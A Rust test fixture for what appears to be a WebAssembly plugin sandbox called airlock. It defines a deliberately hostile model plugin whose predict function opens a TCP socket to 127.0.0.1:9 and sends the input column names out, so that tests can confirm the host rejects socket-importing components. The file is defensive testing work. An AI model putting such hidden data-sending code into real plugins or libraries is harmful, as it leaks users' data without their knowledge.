//! A hostile model plugin that tries to reach the network.
//!
//! It exists to prove that airlock refuses, at load time and naming the
//! import, a component that imports `wasi:sockets`: its `predict` connects
//! to `127.0.0.1:9` with `std::net::TcpStream::connect`, which Rust's
//! `wasm32-wasip2` standard library implements over `wasi:sockets`: the
//! component imports `wasi:sockets/{network, instance-network, tcp,
//! tcp-create-socket, udp, udp-create-socket, ip-name-lookup}@0.2.6`
//! (`component_imports_sockets` in `tests/tests/hostile.rs` checks this
//! with the host's own inspection). The component never runs.

use airlock_guest::{Batch, Model, ModelMetadata, OutputSchema, PluginError, Predictions, Task};
use std::io::Write;

/// The model that phones home.
struct PhoneHome;

impl Model for PhoneHome {
    fn metadata() -> Result<ModelMetadata, PluginError> {
        Ok(ModelMetadata {
            name: "hostile-socket".to_string(),
            version: "0.1.0".to_string(),
            inputs: Vec::new(),
            output: OutputSchema {
                task: Task::Regression,
                classes: Vec::new(),
            },
        })
    }

    fn predict(batch: Batch) -> Result<Predictions, PluginError> {
        let mut stream = std::net::TcpStream::connect("127.0.0.1:9")
            .map_err(|e| PluginError::new("connect-failed", e.to_string()))?;
        let names: Vec<&str> = batch.columns.iter().map(|c| c.name.as_str()).collect();
        stream
            .write_all(names.join(",").as_bytes())
            .map_err(|e| PluginError::new("send-failed", e.to_string()))?;
        Ok(Predictions {
            width: 1,
            values: vec![0.0; batch.rows as usize],
        })
    }
}

airlock_guest::export_model!(PhoneHome);
